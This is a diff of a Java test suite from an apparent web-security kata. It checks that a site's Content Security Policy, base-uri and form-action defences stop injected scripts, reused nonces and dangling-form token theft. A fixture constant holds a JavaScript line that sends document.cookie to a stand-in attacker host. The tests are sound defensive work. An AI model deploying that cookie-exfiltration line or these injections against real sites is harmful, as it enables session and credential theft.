@@ -2,6 +2,7 @@ package dev.rampart.kata.securityheaders;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.rampart.contract.Payloads;
 import dev.rampart.kata.support.Attack;
 import dev.rampart.kata.support.AttackFamily;
 import dev.rampart.kata.support.ContentSecurityPolicy;
@@ -17,13 +18,17 @@ import dev.rampart.kata.support.ScriptLoading;
 import io.javalin.Javalin;
 import java.io.IOException;
 import java.net.URI;
+import java.net.http.HttpResponse;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
+import java.util.List;
+import java.util.Optional;
 import org.jsoup.Jsoup;
 import org.jsoup.nodes.Document;
-import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -43,7 +48,9 @@ import org.junit.jupiter.params.aggregator.ArgumentsAccessor;
  * observable without a browser engine; the notebook server sends them anyway); errors Jetty
  * answers before the app sees the request (a malformed URI): the fix lives in Jetty's error
  * handler, not in the app, and the server's own suite covers it; and the software-version
- * headers, which the error-handling kata makes red (the audit here still checks them).
+ * headers, which the error-handling kata makes red (the audit here still checks them); CSP's
+ * {@code object-src} (no plugin in a current browser runs script in the page's origin) and
+ * {@code blob:} sources (only script already running in the page can make a {@code blob:} URL).
  */
 class AccountSiteTest {
 
@@ -51,6 +58,8 @@ class AccountSiteTest {
     /** A member's upload that is also valid JavaScript: what an attacker uploads before injecting a script tag. */
     private static final String UPLOADED_SCRIPT = "fetch('https://attacker.invalid/?c=' + encodeURIComponent(document.cookie));\n";
     private static final String TOKEN = "r3set-7f1c9a2e5b";
+    /** What a browser sends when it navigates to a page. */
+    private static final String BROWSER_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/svg+xml,*/*;q=0.8";
 
     @TempDir
     static Path files;
@@ -59,7 +68,7 @@ class AccountSiteTest {
     private static LoopbackHttp http;
 
     @BeforeAll
-    static void start() throws IOException {
+    static void writeFiles() throws IOException {
         var assets = Files.createDirectories(files.resolve("assets"));
         var uploads = Files.createDirectories(files.resolve("uploads"));
         Files.writeString(assets.resolve("site.css"), "body { font-family: sans-serif; }\n");
@@ -68,12 +77,17 @@ class AccountSiteTest {
                 "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><circle r=\"5\" cx=\"5\" cy=\"5\"/></svg>\n");
         Files.writeString(uploads.resolve("notes.txt"), UPLOADED_SCRIPT);
         Files.writeString(uploads.resolve("minutes.txt"), "Minutes of the annual meeting.\n");
-        server = new AccountSite(MEMBER, assets, uploads).app().start("127.0.0.1", 0);
+    }
+
+    /** A fresh site for every case: each case sees the app its own code built. */
+    @BeforeEach
+    void start() {
+        server = new AccountSite(MEMBER, files.resolve("assets"), files.resolve("uploads")).app().start("127.0.0.1", 0);
         http = new LoopbackHttp(server.port());
     }
 
-    @AfterAll
-    static void stop() {
+    @AfterEach
+    void stop() {
         server.stop();
     }
 
@@ -135,6 +149,21 @@ class AccountSiteTest {
     }
 
     @Test
+    void theAccountPageShowsTheMembersDetails() {
+        var page = Jsoup.parse(http.get("/account").body());
+
+        assertThat(page.select("h1").text()).isEqualTo(MEMBER.name());
+        assertThat(page.select("dd").eachText()).containsExactly(MEMBER.email(), MEMBER.iban());
+    }
+
+    @Test
+    void theResetPageKeepsTheTokenForTheForm() {
+        var page = Jsoup.parse(http.get("/reset-password?token=" + TOKEN).body());
+
+        assertThat(page.select("form input[name=token]").attr("value")).isEqualTo(TOKEN);
+    }
+
+    @Test
     void anUploadIsServedAsTheTextItIs() {
         var answer = http.get("/uploads/minutes.txt");
 
@@ -168,23 +197,56 @@ class AccountSiteTest {
                 .isEmpty();
     }
 
-    @AttackFamily("script injected into the home page runs")
+    @AttackFamily("script injected into one of the site's pages runs")
     @PayloadFile("security-headers/injected-scripts.txt")
     void injectedScriptRuns(String kind, String injection) {
-        var answer = http.get("/");
-        var csp = ContentSecurityPolicy.of(answer, url("/"));
+        var runsOn = new ArrayList<String>();
+        for (var document : documents()) {
+            var csp = ContentSecurityPolicy.of(document.answer(), document.url());
+            var rest = InjectionPolicy.of(document.answer(), document.url());
+            var runs = switch (kind) {
+                case "inline" -> csp.runsInjectedInlineScript();
+                case "handler" -> csp.runsInjectedEventHandler();
+                case "javascript-url" -> csp.runsJavascriptUrl();
+                case "src" -> csp.runsScriptFrom(injection);
+                case "eval" -> rest.runsEval();
+                case "nonce" -> nonceFromAnEarlierAnswerRuns(document).isPresent();
+                default -> throw new IllegalArgumentException("unknown kind " + kind + " in injected-scripts.txt");
+            };
+            if (runs) {
+                runsOn.add(document.request() + (kind.equals("nonce") ? " (" + nonceFromAnEarlierAnswerRuns(document).get() + ")" : "")
+                        + " under " + csp.describe());
+            }
+        }
+        assertThat(runsOn)
+                .as("injected %s runs on the pages listed: a policy that allows 'unsafe-inline', 'unsafe-eval', data: URLs, a"
+                        + " host anyone can publish to, or a nonce that is not new and random in every answer, is no defence once"
+                        + " an injection is found, and every page a browser renders needs the policy, error pages included",
+                        injection)
+                .isEmpty();
+    }
 
-        var runs = switch (kind) {
-            case "inline" -> csp.runsInjectedInlineScript();
-            case "handler" -> csp.runsInjectedEventHandler();
-            case "javascript-url" -> csp.runsJavascriptUrl();
-            case "src" -> csp.runsScriptFrom(injection);
-            default -> throw new IllegalArgumentException("unknown kind " + kind + " in injected-scripts.txt");
-        };
-        assertThat(runs)
-                .as("injected %s runs under %s: a policy that allows 'unsafe-inline', or a host anyone can publish to,"
-                        + " is no defence once an injection is found", injection, csp.describe())
-                .isFalse();
+    @AttackFamily("markup injected into one of the site's pages sends the member's clicks or form data to the attacker")
+    @PayloadFile("security-headers/injected-markup.txt")
+    void injectedMarkupLeadsAway(String kind, String injection) {
+        var target = HeaderAudit.ATTACKER + "/";
+        var open = new ArrayList<String>();
+        for (var document : documents()) {
+            var policy = InjectionPolicy.of(document.answer(), document.url());
+            var leads = switch (kind) {
+                case "base" -> policy.basePointsTo(target);
+                case "form" -> policy.formPostsTo(target + "collect");
+                default -> throw new IllegalArgumentException("unknown kind " + kind + " in injected-markup.txt");
+            };
+            if (leads) {
+                open.add(document.request() + " under " + ContentSecurityPolicy.of(document.answer(), document.url()).describe());
+            }
+        }
+        assertThat(open)
+                .as("injected %s takes effect on the pages listed: default-src does not cover base-uri or form-action, so a"
+                        + " <base> re-points every relative link to a look-alike and a dangling <form> carries the reset token and"
+                        + " the new password off", injection)
+                .isEmpty();
     }
 
     @Attack("a page on another site frames the account page under a decoy, so the member's clicks land on it")
@@ -258,6 +320,48 @@ class AccountSiteTest {
     }
 
     // ---------------------------------------------------------------- helpers
+
+    /** One answer a browser renders as a document (HTML, or SVG opened on its own), as a browser asks for it. */
+    private record Rendered(String request, URI url, HttpResponse<String> answer) {
+    }
+
+    /** Every answer of every-response.txt that a browser turns into a document, requested with a browser's Accept header. */
+    private static List<Rendered> documents() {
+        var documents = new ArrayList<Rendered>();
+        for (var line : Payloads.load("security-headers/every-response.txt").payloads()) {
+            var cells = line.split("\t");
+            var answer = asBrowser(cells[0], cells[1]);
+            var type = ScriptLoading.essence(answer).orElse("");
+            if (type.equals("text/html") || type.equals("image/svg+xml")) {
+                documents.add(new Rendered(cells[0] + " " + cells[1], url(cells[1]), answer));
+            }
+        }
+        return documents;
+    }
+
+    private static HttpResponse<String> asBrowser(String method, String path) {
+        return http.request(method, path).header("Accept", BROWSER_ACCEPT).send();
+    }
+
+    /**
+     * The nonce an attacker saw in an earlier answer of the same page (or, when there is none, any
+     * made-up one) that the next answer's policy lets an injected script carry; or a nonce of the
+     * next answer too short to be unguessable. Empty when neither runs.
+     */
+    private static Optional<String> nonceFromAnEarlierAnswerRuns(Rendered document) {
+        var method = document.request().substring(0, document.request().indexOf(' '));
+        var earlier = InjectionPolicy.of(asBrowser(method, document.url().getRawPath()
+                + (document.url().getRawQuery() == null ? "" : "?" + document.url().getRawQuery())), document.url());
+        var seen = earlier.scriptNonces().isEmpty() ? List.of("bm90LWEtbm9uY2U") : earlier.scriptNonces();
+        var next = InjectionPolicy.of(document.answer(), document.url());
+        for (var nonce : seen) {
+            if (next.runsInlineScriptWithNonce(nonce)) {
+                return Optional.of("nonce " + nonce + " seen in an earlier answer still runs");
+            }
+        }
+        return next.scriptNonces().stream().filter(nonce -> InjectionPolicy.bitsAtMost(nonce) < 128).findFirst()
+                .map(nonce -> "nonce " + nonce + " carries at most " + Math.round(InjectionPolicy.bitsAtMost(nonce)) + " bits: guessable");
+    }
 
     private static URI url(String path) {
         return http.base().resolve(path);
